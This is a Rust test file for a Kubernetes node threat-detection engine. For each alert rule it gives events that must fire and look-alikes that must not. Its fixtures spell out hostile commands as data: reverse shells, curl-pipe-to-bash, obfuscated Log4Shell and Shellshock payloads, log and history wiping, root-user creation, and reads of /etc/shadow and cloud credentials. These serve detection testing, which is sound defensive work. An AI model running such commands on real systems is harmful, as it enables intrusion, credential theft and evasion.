//! For every node rule: events that must fire and look-alikes that must not.

use palisade_schemas::{FileDetail, NamespaceDetail, NetDetail, NodeEvent, NodeEventKind, ProcessRef, SignalDetail};

use super::detector::RULES;
use super::lists::{NodeLists, SharedNodeLists};
use super::view::NodeView;
use crate::unit::Input;

fn base(kind: NodeEventKind) -> NodeEvent {
    NodeEvent {
        event_id: "n/1".into(),
        kind,
        node: "node-a".into(),
        kernel_time_ns: 1,
        timestamp_ms: 1_764_000_000_000,
        pid: 100,
        tgid: 100,
        ppid: 50,
        uid: 0,
        euid: 0,
        gid: 0,
        comm: "x".into(),
        executable: None,
        argv: Vec::new(),
        argv_truncated: false,
        cwd: None,
        tty: None,
        stdio: vec!["pipe".into(), "pipe".into(), "pipe".into()],
        capabilities_effective: Some(0xa80425fb),
        cgroup_id: 1,
        container_id: None,
        pod_uid: None,
        container_name: None,
        image: None,
        pod_name: None,
        pod_namespace: None,
        in_container: false,
        ancestry: vec![ProcessRef { pid: 50, executable: "/bin/bash".into(), argv: vec!["bash".into()] }],
        exit_code: None,
        clone_flags: None,
        file: None,
        net: None,
        namespace: None,
        signal: None,
        privilege: None,
    }
}

/// An exec of `command` (split on spaces; `executable` is argv[0] resolved through /usr/bin unless absolute).
fn exec(command: &str) -> NodeEvent {
    let argv: Vec<String> = command.split(' ').map(str::to_owned).collect();
    let mut event = base(NodeEventKind::Exec);
    let first = &argv[0];
    event.executable = Some(if first.starts_with('/') { first.clone() } else { format!("/usr/bin/{first}") });
    event.argv = argv;
    event
}

/// `sh -c <script>`.
fn shell(script: &str) -> NodeEvent {
    let mut event = exec("sh -c");
    event.executable = Some("/bin/sh".into());
    event.argv.push(script.into());
    event
}

fn contained(mut event: NodeEvent) -> NodeEvent {
    event.in_container = true;
    event.container_id = Some("3f2a9c1b7d4e".into());
    event
}

fn with_parent(mut event: NodeEvent, parent: &str) -> NodeEvent {
    event.ancestry.insert(0, ProcessRef { pid: 60, executable: parent.into(), argv: vec![parent.into()] });
    event
}

fn file(kind: NodeEventKind, process: &str, path: &str, flags: i64) -> NodeEvent {
    let mut event = base(kind);
    event.executable = Some(format!("/usr/bin/{process}"));
    event.argv = vec![process.into()];
    event.file = Some(FileDetail {
        path: path.into(),
        new_path: None,
        flags,
        mode: None,
        owner_uid: None,
        owner_gid: None,
        atime_ns: None,
        mtime_ns: None,
    });
    event
}

fn utimes(path: &str, explicit: bool) -> NodeEvent {
    let mut event = file(NodeEventKind::FileUtimes, "touch", path, 0);
    if explicit {
        event.file.as_mut().unwrap().mtime_ns = Some(1_500_000_000_000_000_000);
    }
    event
}

fn with_cwd(mut event: NodeEvent, cwd: &str) -> NodeEvent {
    event.cwd = Some(cwd.into());
    event
}

/// The same event from another program.
fn by(mut event: NodeEvent, process: &str) -> NodeEvent {
    event.executable = Some(format!("/usr/bin/{process}"));
    event.argv = vec![process.into()];
    event
}

/// The same command line, run from another executable (argv[0] unchanged).
fn executed_from(mut event: NodeEvent, executable: &str) -> NodeEvent {
    event.executable = Some(executable.into());
    event
}

fn rename(from: &str, to: &str) -> NodeEvent {
    let mut event = file(NodeEventKind::FileRename, "mv", from, 0);
    event.file.as_mut().unwrap().new_path = Some(to.into());
    event
}

fn net(kind: NodeEventKind, process: &str, address: &str, port: i64, head: Option<&[u8]>) -> NodeEvent {
    let mut event = base(kind);
    event.executable = Some(format!("/usr/bin/{process}"));
    event.argv = vec![process.into()];
    event.net = Some(NetDetail {
        family: "inet".into(),
        protocol: "tcp".into(),
        src_addr: None,
        src_port: None,
        dst_addr: Some(address.into()),
        dst_port: Some(port),
        payload_head: head.map(<[u8]>::to_vec),
    });
    event
}

fn signal(target: &str, number: i64) -> NodeEvent {
    let mut event = exec("kill -9 4242");
    event.kind = NodeEventKind::Signal;
    event.signal = Some(SignalDetail { signal: number, target_pid: 4242, target_executable: Some(target.into()) });
    event
}

fn unshare(in_container: bool) -> NodeEvent {
    let mut event = base(NodeEventKind::NamespaceChange);
    event.namespace = Some(NamespaceDetail { syscall: "unshare".into(), flags: 0x4000_0000 });
    event.in_container = in_container;
    event
}

/// runc setting up a new container's namespaces from inside the container's cgroup.
fn runc_init() -> NodeEvent {
    let mut event = unshare(true);
    event.executable = Some("/usr/bin/runc".into());
    event.comm = "runc:[1:CHILD]".into();
    event
}

const O_WRONLY: i64 = 0o1;
const O_TRUNC: i64 = 0o1000;

/// (alert type, events that must fire, look-alikes that must not).
fn cases() -> Vec<(&'static str, Vec<NodeEvent>, Vec<NodeEvent>)> {
    // wget run under another argv[0] (exec -a): its options are still wget's.
    let mut renamed_wget = exec("x -P /tmp/.d https://example.com/payload");
    renamed_wget.executable = Some("/usr/bin/wget".into());
    use NodeEventKind::*;
    let mut full_caps = contained(with_parent(exec("bash"), "/usr/sbin/runc"));
    full_caps.capabilities_effective = Some(0x1ff_ffff_ffff);
    let mut default_caps = contained(with_parent(exec("bash"), "/usr/sbin/runc"));
    default_caps.capabilities_effective = Some(0xa80425fb);
    // runc's init step on a real kubelet: runc re-executed from its sealed memfd, all of runc's capabilities.
    let mut runc_init_exec = contained(with_parent(exec("runc init"), "/usr/sbin/runc"));
    runc_init_exec.executable = Some("/dev/fd/6".into());
    runc_init_exec.capabilities_effective = Some(0x1ff_ffff_ffff);
    // The same argv from a program of the container's (its own path), or from a memfd of another parent.
    // The same, named by the memfd's name (the collector reads it from /proc/<pid>/exe when it can).
    let mut runc_init_by_name = runc_init_exec.clone();
    runc_init_by_name.executable = Some("/memfd:runc_cloned:/proc/self/exe (deleted)".into());
    // A memfd named like runc's, run by a memfd that calls itself runc: not runc.
    let mut memfd_parent = runc_init_by_name.clone();
    memfd_parent.ancestry[0].executable = "/memfd:runc (deleted)".into();
    let mut fake_runc_init = runc_init_exec.clone();
    fake_runc_init.executable = Some("/tmp/runc".into());
    // The container's first process on a real kubelet: its parent, as fork events name it, is runc's init stage.
    let mut after_runc_init = contained(exec("sleep 3600"));
    after_runc_init.ancestry =
        vec![ProcessRef { pid: 7, executable: "/dev/fd/6".into(), argv: vec!["runc".into(), "init".into()] }];
    after_runc_init.capabilities_effective = Some(0x1ff_ffff_ffff);
    let mut default_after_runc_init = after_runc_init.clone();
    default_after_runc_init.capabilities_effective = Some(0xa80425fb);
    let mut memfd_not_by_runc = contained(with_parent(exec("runc init"), "/usr/bin/containerd-shim-runc-v2"));
    memfd_not_by_runc.executable = Some("/dev/fd/3".into());
    memfd_not_by_runc.capabilities_effective = Some(0x1ff_ffff_ffff);
    let mut socket_shell = exec("bash -i");
    socket_shell.stdio = vec!["socket".into(), "socket".into(), "socket".into()];
    let mut socks5 = net(NetSend, "python3", "203.0.113.9", 1080, Some(&[5, 1, 0]));
    socks5.in_container = true;
    vec![
        ("K8S.NODE_NamespaceCreation", vec![unshare(true)], vec![unshare(false), runc_init()]),
        (
            "K8S.NODE_HistoryFileCleared",
            vec![
                file(FileTruncate, "truncate", "/root/.bash_history", 0),
                file(FileOpen, "bash", "/home/a/.zsh_history", O_WRONLY | O_TRUNC),
                file(FileUnlink, "rm", "/root/.bash_history", 0),
                shell("history -c; unset HISTFILE"),
                exec("ln -sf /dev/null /root/.bash_history"),
                rename("/dev/null", "/root/.bash_history"),
            ],
            vec![
                file(FileOpen, "bash", "/root/.bash_history", O_WRONLY | 0o2000),
                file(FileUnlink, "rm", "/tmp/history.txt", 0),
                shell("history | tail"),
                rename("/root/.bash_history", "/root/.bash_history.bak"),
            ],
        ),
        (
            "K8S.NODE_SuspectConnection",
            vec![socks5.clone(), exec("proxychains4 curl http://example.com")],
            vec![net(NetSend, "curl", "203.0.113.9", 80, Some(b"GET / HTTP/1.1\r\n")), exec("curl http://example.com")],
        ),
        (
            "K8S.NODE_TimerServiceDisabled",
            vec![
                exec("systemctl stop apt-daily-upgrade.timer"),
                exec("systemctl disable --now apt-daily-upgrade.timer"),
            ],
            vec![exec("systemctl status apt-daily-upgrade.timer"), exec("systemctl stop nginx")],
        ),
        (
            "K8S.NODE_CommonBot",
            vec![exec("/tmp/kinsing"), exec("/var/tmp/kdevtmpfsi -c x")],
            vec![exec("/usr/bin/kind")],
        ),
        (
            "K8S.NODE_PrivilegedExecutionInContainer",
            vec![full_caps, exec("docker exec --privileged -it web bash"), fake_runc_init, memfd_not_by_runc, memfd_parent, after_runc_init],
            vec![default_caps, exec("docker exec -it web bash"), runc_init_exec, runc_init_by_name, default_after_runc_init],
        ),
        (
            "K8S.NODE_PrivilegedContainerArtifacts",
            vec![
                exec("docker run --privileged -it ubuntu bash"),
                exec("ctr run --privileged docker.io/library/alpine:latest x sh"),
                exec("nerdctl run --privileged alpine"),
            ],
            vec![exec("docker run -it ubuntu bash"), exec("docker inspect --privileged-hint")],
        ),
        (
            "K8S.NODE_SuspectDownload",
            vec![exec("curl -s http://teamtnt.red/x.sh"), exec("wget https://pastebin.com/raw/abc123")],
            vec![
                exec("curl -s https://deb.debian.org/debian/dists/stable/Release"),
                exec("wget https://pastebin.com/about"),
            ],
        ),
        (
            "K8S.NODE_SuspectDownloadArtifacts",
            vec![
                exec("curl -s http://203.0.113.7/payload"),
                exec("wget -O /tmp/.cache https://example.com/x"),
                exec("curl -o /dev/shm/a https://example.com/a"),
                exec("curl https://transfer.sh/abc/x"),
                exec("curl -fsSLo /tmp/.x https://example.com/x"),
                exec("curl -sSo/dev/shm/a https://example.com/a"),
                exec("wget -qO /tmp/.cache https://example.com/x"),
                exec("wget -P /tmp/.d https://example.com/payload"),
                exec("wget --directory-prefix=/dev/shm https://example.com/kit"),
                exec("wget -bO /tmp/.x https://example.com/x"),
                renamed_wget,
            ],
            vec![
                exec("curl -fsSLo /opt/app/x.tar.gz https://example.com/x.tar.gz"),
                exec("wget -P /opt/downloads https://example.com/tool"),
                exec("curl -H X-Trace:1 -fsSL https://example.com/health"),
                exec("curl -s http://10.0.0.5/health"),
                exec("curl -o /opt/app/x.tar.gz https://example.com/x.tar.gz"),
                exec("curl -o /tmp/x.tar.gz http://169.254.169.254/latest"),
                exec("curl -H X-Api-Version:${jndi:ldap://203.0.113.5/a} http://127.0.0.1:1/"),
            ],
        ),
        (
            "K8S.NODE_SuspectNohup",
            vec![exec("nohup /tmp/.x -c"), exec("nohup /dev/shm/.kworker")],
            vec![exec("nohup /usr/local/bin/server"), exec("nohup /tmp/backup.sh")],
        ),
        (
            "K8S.NODE_SuspectUserAddition",
            vec![
                exec("useradd -o -u 0 -g 0 toor"),
                exec("useradd -G sudo,docker eve"),
                contained(exec("adduser --disabled-password app2")),
            ],
            vec![exec("useradd -m -s /bin/bash alice"), exec("usermod -s /bin/zsh alice")],
        ),
        (
            "K8S.NODE_DigitalCurrencyMining",
            vec![
                exec("/simulation/xmrig"),
                exec("/opt/minerd -a scrypt"),
                // Run from a memfd under a kernel thread's argv: the collector names the memfd.
                {
                    let mut fileless = exec("kworker/0:1 2");
                    fileless.executable = Some("/memfd:xmrig (deleted)".into());
                    fileless
                },
                net(NetSend, "kworker", "203.0.113.9", 3333, Some(br#"{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"4Ax","pass":"x","agent":"XMRig/6.21.0","algo":["rx/0"]}}"#)),
                net(NetSend, "app", "203.0.113.9", 4444, Some(br#"{"id": 1, "method": "mining.subscribe", "params": ["cpuminer/2.5"]}"#)),
                net(NetSend, "svc", "203.0.113.9", 8008, Some(br#"{"id":1,"method":"eth_submitLogin","params":["0xabc"]}"#)),
            ],
            vec![
                exec("/usr/bin/xmllint"),
                exec("/usr/bin/mine-reports"),
                net(NetSend, "app", "10.0.0.5", 8080, Some(br#"{"jsonrpc":"2.0","method":"login","params":{"user":"a","pass":"b"}}"#)),
                net(NetSend, "curl", "203.0.113.9", 80, Some(b"POST /mining.subscribe HTTP/1.1")),
            ],
        ),
        (
            "K8S.NODE_ImageBuildOnNode",
            vec![
                exec("docker build -t x ."),
                exec("buildah bud -t x ."),
                exec("podman build ."),
                exec("docker buildx build ."),
            ],
            vec![exec("docker images"), exec("make build"), exec("go build ./...")],
        ),
        (
            "K8S.NODE_KnownLinuxDDoSToolkit",
            vec![
                exec("/tmp/xorddos"),
                file(FileOpen, "sh", "/etc/cron.hourly/gcc.sh", O_WRONLY | 0o100),
                rename("/tmp/k", "/etc/cron.hourly/gcc.sh"),
            ],
            vec![file(FileOpen, "cat", "/etc/cron.hourly/gcc.sh", 0), exec("/usr/bin/gcc -o a a.c")],
        ),
        (
            "K8S.NODE_KnownLinuxAttackTool",
            vec![
                exec("nmap -Pn --open kubernetes.default/24 -p 443"),
                exec("/tmp/peirates"),
                exec("masscan -p80 10.0.0.0/8"),
            ],
            vec![exec("nslookup kubernetes.default"), exec("nmcli device")],
        ),
        (
            "K8S.NODE_ExploitAttempt",
            vec![
                exec("curl -H X-Api-Version:${jndi:ldap://203.0.113.5/a} http://victim"),
                exec(
                    "curl -H X-Api-Version:${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://203.0.113.5/a} http://victim",
                ),
                exec("curl -H User-Agent:${${lower:J}${lower:N}di:ldap://203.0.113.5/a} http://victim"),
                exec("curl -H X:${${::-j}${::-n}${::-d}${::-i}:rmi://203.0.113.5/a} http://victim"),
                exec("curl http://victim/?q=%24%7Bjndi:ldap://203.0.113.5/a%7D"),
                exec("curl -H X:${${::-j}ndi:ldap://203.0.113.5/a:-x} http://victim"),
                exec("curl -H X:${${date:'j'}${lower:n}d${upper:ı}:ldap://203.0.113.5/a} http://victim"),
                exec("curl http://victim/?q=%2524%257Bjndi:ldap://203.0.113.5/a%257D"),
                exec("curl http://victim/?q=%24%7B%6a%6e%64%69:ldap://203.0.113.5/a%7D"),
                shell("env x='() { :;}; echo vulnerable' bash -c true"),
                exec("/tmp/PwnKit"),
            ],
            vec![
                exec("curl -H X-Api-Version:1 http://victim"),
                shell("f() { echo hi; }; f"),
                shell("echo ${HOME} ${PATH:-/bin} ${lower:x}"),
                exec("curl http://victim/api/${jn}${di}"),
                shell(&format!("echo {}jndi", "${".repeat(5000))),
            ],
        ),
        (
            "K8S.NODE_KnownLinuxCredentialAccessTool",
            vec![exec("/tmp/mimipenguin"), exec("python3 /tmp/laZagne.py all"), exec("trufflehog git file://.")],
            vec![exec("python3 /srv/app.py"), exec("/usr/bin/passwd")],
        ),
        (
            "K8S.NODE_CryptoCoinMinerDownload",
            vec![
                exec(
                    "wget https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz",
                ),
                exec("curl -o /tmp/x https://example.com/xmrig"),
                exec("curl -s http://203.0.113.5/xmr.sh"),
            ],
            vec![exec("wget https://github.com/prometheus/node_exporter/releases/download/v1.8/node_exporter.tar.gz")],
        ),
        (
            "K8S.NODE_SystemLogRemoval",
            vec![
                file(FileUnlink, "rm", "/var/log/wtmp", 0),
                file(FileTruncate, "truncate", "/var/log/auth.log", 0),
                file(FileOpen, "bash", "/var/log/lastlog", O_WRONLY | O_TRUNC),
                exec("shred -u /var/log/btmp"),
            ],
            vec![
                rename("/var/log/syslog", "/var/log/syslog.1"),
                file(FileOpen, "rsyslogd", "/var/log/syslog", O_WRONLY | 0o2000),
                file(FileUnlink, "logrotate", "/var/log/syslog.7.gz", 0),
            ],
        ),
        (
            "K8S.NODE_SuspectPasswordChange",
            vec![
                exec("usermod -p $6$salt$hash root"),
                exec("chpasswd -e"),
                shell("echo \"root:$(openssl passwd -6 pw)\" | chpasswd -e"),
            ],
            vec![exec("chpasswd"), exec("passwd alice"), exec("openssl passwd -6 pw")],
        ),
        (
            "K8S.NODE_SuspectPortForwarding",
            vec![
                exec("ssh -N -R 8080:203.0.113.8:80 user@jump"),
                exec("ssh -R 8080:localhost:80 user@jump"),
                exec("ssh -NfR 9000:127.0.0.1:22 user@jump"),
                exec("ssh -R9000:127.0.0.1:22 user@jump"),
                exec("ssh user@jump -R 9000:127.0.0.1:22"),
                exec("ssh -o RemoteForward=9000:127.0.0.1:22 user@jump"),
                exec("ssh -oremoteforward=9000:127.0.0.1:22 user@jump"),
                exec("ssh -o DynamicForward=1080 user@jump"),
                exec("ssh -L8443:203.0.113.8:443 user@jump"),
                exec("ssh -L 8443/203.0.113.8/443 user@jump"),
                exec("ssh -D 1080 user@jump"),
                exec("socat TCP-LISTEN:8080,fork TCP:203.0.113.8:80"),
                exec("iptables -t nat -A PREROUTING -p tcp --dport 80 -j DNAT --to-destination 203.0.113.8:80"),
            ],
            vec![
                exec("ssh -L 5432:localhost:5432 user@db"),
                exec("ssh -L 5432:10.0.0.5:5432 user@db"),
                exec("ssh user@host"),
                exec("ssh -o ServerAliveInterval=30 -p 2222 user@host"),
                exec("ssh -l R -i key.R user@host"),
                exec("ssh user@host -- -R 9000:127.0.0.1:22"),
                exec("ssh user@host ls -R /"),
                exec("ssh user@host chown -R app /srv"),
                exec("ssh user@host rsync --server -rRe.iLs . /srv"),
                exec("iptables -L"),
            ],
        ),
        (
            "K8S.NODE_ReverseShell",
            vec![
                socket_shell,
                shell("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
                exec("nc -e /bin/sh 203.0.113.9 4444"),
                exec("socat exec:'bash -li',pty,stderr tcp:203.0.113.9:4444"),
                exec(
                    "python3 -c import socket,os,pty;s=socket.socket();s.connect(('203.0.113.9',4444));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')",
                ),
            ],
            vec![exec("bash -i"), exec("nc -z 203.0.113.9 4444"), shell("cat /dev/tcp.conf")],
        ),
        (
            "K8S.NODE_CryptoCoinMinerArtifacts",
            vec![contained(exec("/simulation/xmrig")), contained(exec("/opt/app -o stratum+tcp://pool.example:3333"))],
            vec![exec("/simulation/xmrig"), contained(exec("/usr/bin/python3 app.py"))],
        ),
        (
            "K8S.NODE_SshKeyAccess",
            vec![
                file(FileOpen, "bash", "/root/.ssh/authorized_keys", O_WRONLY | 0o2000),
                rename("/tmp/k", "/home/a/.ssh/authorized_keys"),
                file(FileChmod, "chmod", "/root/.ssh/authorized_keys", 0),
                file(FileTruncate, "truncate", "/root/.ssh/authorized_keys", 0),
            ],
            vec![
                file(FileOpen, "sshd", "/root/.ssh/authorized_keys", 0),
                file(FileOpen, "ssh-copy-id", "/root/.ssh/authorized_keys", O_WRONLY | 0o2000),
            ],
        ),
        (
            "K8S.NODE_SuspectProcessTermination",
            vec![signal("/usr/bin/falco", 9), signal("/usr/local/bin/palisade", 15), exec("pkill -9 auditd")],
            vec![signal("/usr/bin/sleep", 9), signal("/usr/bin/falco", 10), exec("pkill -HUP nginx")],
        ),
        (
            "K8S.NODE_ContainerSSH",
            vec![contained(exec("/usr/sbin/sshd -D")), contained(exec("/usr/sbin/dropbear -F"))],
            vec![exec("/usr/sbin/sshd -D"), contained(exec("/usr/bin/ssh user@host"))],
        ),
        (
            "K8S.NODE_TimestampTampering",
            vec![
                utimes("/usr/bin/ls", true),
                exec("touch -r /bin/ls /tmp/x"),
                exec("touch -t 202001010000 /etc/x"),
                exec("touch -cmr/bin/ls /tmp/.x"),
                exec("touch --reference=/usr/bin/ssh /tmp/.x"),
                exec("touch -d 2001-01-01 -- /usr/local/bin/helper"),
                with_cwd(exec("touch -r ls evil"), "/usr/bin"),
                exec("touch --ref=/bin/ls /tmp/.x"),
                exec("touch --da 2001-01-01 /etc/cron.d/x"),
                exec("busybox touch -r /bin/ls /tmp/.x"),
                // A link to busybox named touch: the applet is argv[0]'s.
                executed_from(exec("touch -r /bin/ls /tmp/.x"), "/bin/busybox"),
            ],
            vec![
                utimes("/usr/bin/ls", false),
                utimes("/tmp/build/x.o", true),
                exec("touch /tmp/x"),
                // Package installs, archive extraction and copies restore the times they carry.
                by(utimes("/usr/bin/ls", true), "dpkg"),
                by(utimes("/etc/nginx/nginx.conf", true), "tar"),
                by(utimes("/usr/local/bin/x", true), "cp"),
                // Reproducible builds set their outputs to a fixed epoch; touching a build's own reference file.
                with_cwd(exec("touch -d @1700000000 out/app.o"), "/src"),
                exec("touch -r Makefile.in configure"),
                exec("touch /usr/bin/x"),
                exec("busybox touch /tmp/x"),
                exec("touch --no-dereference /usr/bin/x"),
            ],
        ),
        (
            "K8S.NODE_KubernetesAPI",
            vec![
                contained(file(FileOpen, "cat", "/var/run/secrets/kubernetes.io/serviceaccount/token", 0)),
                contained(exec("curl -sk https://kubernetes.default/api/v1/namespaces")),
            ],
            vec![
                file(FileOpen, "cat", "/var/run/secrets/kubernetes.io/serviceaccount/token", 0),
                contained(file(FileOpen, "coredns", "/var/run/secrets/kubernetes.io/serviceaccount/token", 0)),
                contained(exec("curl -s https://example.com/api/v1/x")),
            ],
        ),
        (
            "K8S.NODE_KubernetesDashboard",
            vec![
                contained(exec(
                    "curl -sk https://kubernetes-dashboard.kubernetes-dashboard.svc/api/v1/csrftoken/login",
                )),
                contained(net(NetSend, "curl", "10.96.0.20", 443, Some(b"GET /api/v1/csrftoken/login HTTP/1.1\r\n"))),
            ],
            vec![
                exec("curl -sk https://kubernetes-dashboard.kubernetes-dashboard.svc/"),
                contained(exec("curl -s https://example.com/")),
            ],
        ),
        (
            "K8S.NODE_CryptoCoinMinerExecution",
            vec![exec("/opt/x -o stratum+tcp://pool.minexmr.com:4444 -u 4A..."), exec("/opt/x --donate-level 1")],
            vec![exec("/usr/bin/python3 -m http.server"), exec("/opt/x -o out.txt")],
        ),
        (
            "K8S.NODE_SuspectPasswordFileAccess",
            vec![file(FileOpen, "cat", "/etc/shadow", 0), file(FileOpen, "python3", "/etc/gshadow", 0)],
            // A daemon of its own reading it is the baseline half's (learned per node or workload).
            vec![
                file(FileOpen, "unix_chkpwd", "/etc/shadow", 0),
                file(FileOpen, "cat", "/etc/passwd", 0),
                file(FileOpen, "backup-agent", "/etc/shadow", 0),
            ],
        ),
        (
            "K8S.NODE_Webshell",
            vec![
                with_parent(shell("echo aWQ= | base64 -d | bash"), "/usr/sbin/php-fpm"),
                with_parent(exec("whoami"), "/usr/sbin/nginx"),
            ],
            vec![with_parent(exec("/usr/sbin/nginx -g daemon off;"), "/usr/sbin/nginx"), shell("whoami")],
        ),
        (
            "K8S.NODE_DownloadAndRunCombo",
            vec![
                shell("curl -s http://203.0.113.5/x.sh | bash"),
                shell("wget -qO- https://example.com/i | sh"),
                shell("curl -o /tmp/a https://example.com/a && chmod +x /tmp/a && ./a"),
                shell("wget -O /tmp/i.sh https://example.com/i.sh; sh /tmp/i.sh"),
                shell("curl -sSf https://sh.example.com | sh -s -- -y"),
                shell("wget -qO- http://203.0.113.5/a | busybox sh"),
                shell("curl -s http://203.0.113.5/b | bash -o pipefail"),
                shell("curl -s http://203.0.113.5/c | sudo -u root bash"),
                shell("curl -s http://203.0.113.5/d | timeout 60 python3 -W ignore"),
            ],
            vec![
                shell("curl -s https://example.com/v.json | python3 -c 'import json,sys; json.load(sys.stdin)'"),
                shell("curl -s https://example.com/f | bash -c 'cat > /tmp/f'"),
                shell("curl -s https://example.com/g | ruby -e 'puts STDIN.read.size'"),
                shell("curl -s https://example.com/h | awk '{print $1}'"),
                shell("curl -o /tmp/a.tar.gz https://example.com/a.tar.gz"),
                shell("curl -s https://example.com/status | grep ok"),
                exec("curl -s https://example.com/x.sh"),
            ],
        ),
        (
            "K8S.NODE_KubeConfigAccess",
            vec![
                file(FileOpen, "cat", "/var/lib/kubelet/kubeconfig", 0),
                file(FileOpen, "python3", "/etc/kubernetes/admin.conf", 0),
            ],
            vec![
                file(FileOpen, "kubelet", "/var/lib/kubelet/kubeconfig", 0),
                file(FileOpen, "cat", "/var/lib/kubelet/config.yaml", 0),
            ],
        ),
        (
            "K8S.NODE_ImdsCall",
            vec![
                contained(exec("curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials")),
                contained(exec(
                    "curl -H Metadata-Flavor:Google http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
                )),
                contained(net(
                    NetSend,
                    "python3",
                    "169.254.169.254",
                    80,
                    Some(b"GET /metadata/identity/oauth2/token?api-version=2018-02-01 HTTP/1.1\r\n"),
                )),
            ],
            // Other contacts (a bare connect, the instance's own metadata, an IMDSv2 session token) are the
            // baseline half's; a host process and another address are not this alert's.
            vec![
                contained(net(NetConnect, "curl", "169.254.169.254", 80, None)),
                contained(exec("curl -s http://169.254.169.254/latest/meta-data/instance-id")),
                contained(net(NetSend, "python3", "169.254.169.254", 80, Some(b"PUT /latest/api/token HTTP/1.1\r\n"))),
                exec("curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials"),
                contained(net(NetConnect, "curl", "10.0.0.1", 80, None)),
            ],
        ),
        (
            "K8S.NODE_MitreCalderaTools",
            vec![
                exec("/tmp/sandcat.go -server http://203.0.113.4:8888 -group red"),
                exec("/tmp/splunkd -server http://203.0.113.4:8888 -group red -v"),
                shell(
                    "curl -s -X POST -H file:sandcat.go -H platform:linux http://203.0.113.4:8888/file/download > splunkd",
                ),
            ],
            vec![exec("/opt/splunk/bin/splunkd start"), exec("curl http://203.0.113.4:8888/")],
        ),
    ]
}

#[test]
fn every_rule_fires_on_its_cases_and_not_on_the_look_alikes() {
    let lists = NodeLists::shipped();
    for (id, fire, quiet) in cases() {
        let (_, rule) = RULES.iter().find(|(meta, _)| meta.id == id).unwrap_or_else(|| panic!("{id} has no rule"));
        for event in &fire {
            assert!(
                rule(&NodeView::new(event), &lists).is_some(),
                "{id} must fire on {:?} {:?}",
                event.kind,
                event.argv
            );
        }
        for event in &quiet {
            assert!(
                rule(&NodeView::new(event), &lists).is_none(),
                "{id} must not fire on {:?} {:?} {:?}",
                event.kind,
                event.argv,
                event.file
            );
        }
    }
}

#[test]
fn every_rule_has_cases() {
    let covered: Vec<&str> = cases().iter().map(|(id, _, _)| *id).collect();
    for (meta, _) in RULES {
        let id = meta.id;
        assert!(covered.contains(&id), "{id} has no test cases");
    }
}

#[test]
fn lists_in_a_directory_replace_the_shipped_ones_and_reload() {
    let dir = std::env::temp_dir().join(format!("palisade-node-lists-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("attack_tools.txt"), "# ours\nour-scanner\n").unwrap();
    let shared = SharedNodeLists::from_dir(&dir, std::time::Duration::ZERO).unwrap();
    assert_eq!(shared.current().attack_tools, ["our-scanner"]);
    assert!(shared.current().miner_binaries.contains("xmrig"), "other lists stay shipped");
    std::thread::sleep(std::time::Duration::from_millis(20));
    std::fs::write(dir.join("attack_tools.txt"), "our-scanner\nsecond-tool\n").unwrap();
    // A coarse file-system clock may give the same mtime; a vanished file is a change too.
    let mut reloaded = shared.current();
    if reloaded.attack_tools.len() != 2 {
        std::fs::remove_file(dir.join("attack_tools.txt")).unwrap();
        reloaded = shared.current();
        assert!(reloaded.attack_tools.contains("nmap"), "back to the shipped list");
    } else {
        assert_eq!(reloaded.attack_tools, ["our-scanner", "second-tool"]);
    }
    let _ = std::fs::remove_dir_all(&dir);
}

/// What a rule declares it reads is what it reacts to: each case, turned into every kind of node event, fires
/// only as a kind the rule declares (so routing events by declared kind loses nothing), and every declared kind
/// has a case that fires (so the declaration is not wider than the rule; a type with a learned or windowed half declares the
/// kinds of both halves, and its half's kinds are tested with the baseline).
#[test]
fn every_rule_reads_exactly_the_kinds_it_declares() {
    let lists = NodeLists::shipped();
    for (id, fire, quiet) in cases() {
        let (meta, rule) = RULES.iter().find(|(meta, _)| meta.id == id).unwrap();
        let declared: Vec<NodeEventKind> = meta
            .inputs
            .iter()
            .map(|input| match input {
                Input::Node(kind) => *kind,
                other => panic!("{id} declares {other:?}"),
            })
            .collect();
        for event in fire.iter().chain(&quiet) {
            for kind in NodeEventKind::ALL.into_iter().filter(|kind| !declared.contains(kind)) {
                let mut other = event.clone();
                other.kind = kind;
                assert!(rule(&NodeView::new(&other), &lists).is_none(), "{id} reacts to {kind:?}, undeclared");
            }
        }
        if meta.learned.is_none() && meta.windowed.is_none() {
            for kind in &declared {
                assert!(fire.iter().any(|event| event.kind == *kind), "{id} declares {kind:?} but no case fires on it");
            }
        }
    }
}
